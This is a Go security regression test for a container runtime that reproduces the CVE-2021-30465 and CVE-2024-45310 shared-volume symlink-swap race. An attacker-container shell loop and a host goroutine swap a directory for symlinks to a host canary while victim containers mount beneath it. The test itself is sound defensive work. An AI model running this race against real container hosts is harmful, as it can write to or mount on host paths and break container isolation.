package security

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// CVE-2021-30465 / CVE-2024-45310: a container sharing a volume with the
// one being created swaps a directory on the mount path for a symlink to a
// host path while the runtime resolves, creates and mounts the
// destinations. runc < 1.0.0-rc95 mounted on the host path; runc < 1.1.14
// created empty directories and files there. Best effort: an attacker
// container and a host goroutine (renameat2 RENAME_EXCHANGE, much faster)
// swap the path for a number of victim creations; nothing may appear in or
// change on the host canary, and nothing may be mounted on a host path.
func TestCVE_2024_45310_SharedVolumeSwapRace(t *testing.T) {
	t.Parallel()
	const iterations = 12
	const mountsPerRun = 16

	e := newEnv(t)
	vol := e.hostDir("vol")
	must(t, os.Mkdir(filepath.Join(vol, "d"), 0o755))
	must(t, os.Symlink(e.canary, filepath.Join(vol, "l")))

	// The attacker container: loops on the shared volume.
	attacker := fmt.Sprintf(`cd /vol || exit 1
echo ready > /vol/ready
while :; do
  mv d dd 2>/dev/null && ln -s %s d 2>/dev/null
  rm -f d 2>/dev/null; mv dd d 2>/dev/null
  mv d dd 2>/dev/null && ln -s %s d 2>/dev/null
  rm -f d 2>/dev/null; mv dd d 2>/dev/null
done`, e.canary, e.upToRoot()+strings.TrimPrefix(e.canary, "/"))
	e.spec.Process.Args = []string{"sh", "-c", attacker}
	volMount := specs.Mount{Destination: "/vol", Type: "bind", Source: vol, Options: []string{"rbind", "rw"}}
	e.spec.Mounts = append(e.spec.Mounts, volMount)
	e.writeConfig()
	mustOK(t, e.rt("run", "-d", "--bundle", e.bundle, e.id))
	if _, ok := waitFile(t, filepath.Join(vol, "ready"), 10*time.Second); !ok {
		t.Fatalf("the attacker container never started")
	}

	// The host-side swapper.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	swaps := 0
	go func() {
		defer wg.Done()
		dfd, err := unix.Open(vol, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		defer unix.Close(dfd)
		for {
			select {
			case <-stop:
				return
			default:
			}
			if unix.Renameat2(dfd, "d", dfd, "l", unix.RENAME_EXCHANGE) == nil {
				swaps++
			}
		}
	}()
	defer func() {
		close(stop)
		wg.Wait()
		t.Logf("host swaps: %d", swaps)
	}()

	// The victim: its own bundle on the same rootfs, many mounts below the
	// swapped directory.
	bdir := e.hostDir("bundleB")
	victim := *e.spec
	victim.Root = &specs.Root{Path: e.rootfs, Readonly: true}
	p := *e.spec.Process
	p.Args = []string{"true"}
	victim.Process = &p
	victim.Mounts = append([]specs.Mount(nil), e.spec.Mounts...)
	for i := 0; i < mountsPerRun; i++ {
		victim.Mounts = append(victim.Mounts, specs.Mount{
			Destination: fmt.Sprintf("/vol/d/s%d/x", i), Type: "tmpfs", Source: "tmpfs",
		})
	}
	writeJSON(t, filepath.Join(bdir, "config.json"), &victim)
	failures := 0
	for i := 0; i < iterations; i++ {
		id := e.newTrackedID()
		r := e.runIn(bdir, callTimeout, "--root", e.root, "run", "--bundle", bdir, id)
		checkNoCrash(t, r)
		if r.code != 0 {
			failures++
			if failures == 1 {
				t.Logf("first failed victim run: %s", r)
			}
		}
		e.rt("delete", "-f", id)
		if probs := e.canaryProblems(); len(probs) > 0 {
			t.Errorf("VULNERABLE after %d victim runs: %s", i+1, strings.Join(probs, "; "))
			break
		}
		if mi, _ := os.ReadFile("/proc/self/mountinfo"); strings.Contains(string(mi), e.host) {
			t.Errorf("VULNERABLE: a mount on a host path after %d victim runs", i+1)
			break
		}
	}
	t.Logf("%d of %d victim runs failed cleanly (a lost race may be refused)", failures, iterations)
}
